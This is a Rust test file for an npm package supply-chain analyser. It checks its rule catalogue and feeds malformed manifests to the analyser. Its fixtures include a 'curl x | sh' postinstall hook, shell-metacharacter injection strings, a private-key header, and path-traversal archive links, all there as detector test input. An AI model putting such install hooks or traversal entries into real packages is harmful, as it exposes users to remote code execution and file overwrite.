//! The rule catalogue is complete and well-formed, and no manifest makes the rules panic.

mod common;

use common::{Fixture, packument};
use dsca_archive::AnomalyKind;
use dsca_rules::{Family, INTEGRITY_MISMATCH, NO_INTEGRITY, catalogue, catalogue_of, rule_by_id};
use serde_json::json;
use std::collections::HashSet;

#[test]
fn every_rule_is_unique_and_documented() {
    let rules = catalogue();
    let mut ids = HashSet::new();
    let mut names = HashSet::new();
    for rule in &rules {
        assert!(ids.insert(rule.id), "duplicate id {}", rule.id);
        assert!(names.insert(rule.name), "duplicate name {}", rule.name);
        assert!(
            rule.id.starts_with("DSCA")
                && (rule.id.len() == 7 || rule.id.starts_with("DSCA10") && rule.id.len() == 8),
            "{}",
            rule.id
        );
        assert!(!rule.title.trim().is_empty(), "{}", rule.id);
        assert!(rule.problem.len() > 40, "{}", rule.id);
        assert!(rule.next_steps.len() > 40, "{}", rule.id);
        assert!(rule.catches.len() > 10, "{}", rule.id);
        assert!(
            rule.severities.contains(&rule.severity)
                && rule.severities.windows(2).all(|pair| pair[0] < pair[1]),
            "{}: the severities list the default, lowest first",
            rule.id
        );
        assert_eq!(rule_by_id(rule.id), Some(*rule));
    }
    // Every family has rules, and together they are the catalogue.
    let families: usize = Family::ALL
        .iter()
        .map(|family| {
            let rules = catalogue_of(*family);
            assert!(!rules.is_empty(), "{family}");
            rules.len()
        })
        .sum();
    assert_eq!(families, rules.len());
    let sorted: Vec<&str> = rules.iter().map(|r| r.id).collect();
    let mut expected = sorted.clone();
    // Numeric order: DSCA999 before DSCA1001.
    expected.sort_by_key(|id| (id.len(), *id));
    assert_eq!(sorted, expected);
    assert_eq!(rule_by_id("DSCA501"), Some(&INTEGRITY_MISMATCH));
    assert_eq!(rule_by_id("DSCA505"), Some(&NO_INTEGRITY));
    assert_eq!(rule_by_id("DSCA999"), None);
}

#[test]
fn every_finding_uses_a_catalogued_rule() {
    let fixture = Fixture::tarball(json!({"name": "crossenv", "version": "0.0.1-security",
        "scripts": {"postinstall": "curl x | sh"}, "bin": {"sh": "x"},
        "dependencies": {"a": "http://x/a.tgz"}}))
    .file("a.exe", b"\x7fELF");
    for finding in fixture.analyse().findings {
        let rule = rule_by_id(&finding.rule).expect("catalogued");
        assert_eq!(rule.name, finding.name);
        assert_eq!(rule.category, finding.category);
    }
}

#[test]
fn weird_manifests_do_not_panic() {
    let manifests = [
        json!(null),
        json!([]),
        json!("package"),
        json!({"scripts": "postinstall"}),
        json!({"scripts": {"postinstall": 5, "install": null, "preinstall": ["a"]}}),
        json!({"scripts": {"postinstall": "$($($(`\"'|&;\n"}}),
        json!({"dependencies": [1, 2], "optionalDependencies": {"a": {"b": 1}}, "bin": {"sh": 1}}),
        json!({"bin": "", "repository": 1, "maintainers": {}, "deprecated": true}),
        json!({"name": "ÿ\u{0}\u{202e}", "version": "∞", "description": 7}),
        json!({"scripts": {"postinstall": "x".repeat(100_000)}}),
    ];
    let names = [
        "",
        "é",
        "@",
        "@/",
        "a/b/c",
        "🙂",
        "-",
        "..",
        "node_modules",
        "x".repeat(500).leak(),
    ];
    for manifest in &manifests {
        for name in names {
            let mut fixture = Fixture::tarball(manifest.clone());
            fixture.name = name.to_string();
            fixture.version = "not-a-version".into();
            let fixture = fixture
                .file("", b"")
                .file("a", b"MZ")
                .file("b", b"\xca\xfe\xba\xbe")
                .file("c", b"-----BEGIN -----BEGIN PRIVATE KEY----------END")
                .anomaly("", AnomalyKind::Symlink { target: "".into() })
                .anomaly(
                    "../",
                    AnomalyKind::Hardlink {
                        target: "..\\..".into(),
                    },
                );
            let _ = fixture.analyse();
        }
    }
    // A packument with odd shapes everywhere.
    let mut p = packument(
        "x",
        &[
            ("1.0.0", json!(null), "yesterday"),
            ("0.9.0", json!("x"), ""),
        ],
    );
    p.time.insert("created".into(), json!(5));
    let fixture = Fixture::registry(p, "1.0.0");
    let _ = fixture.analyse();
}
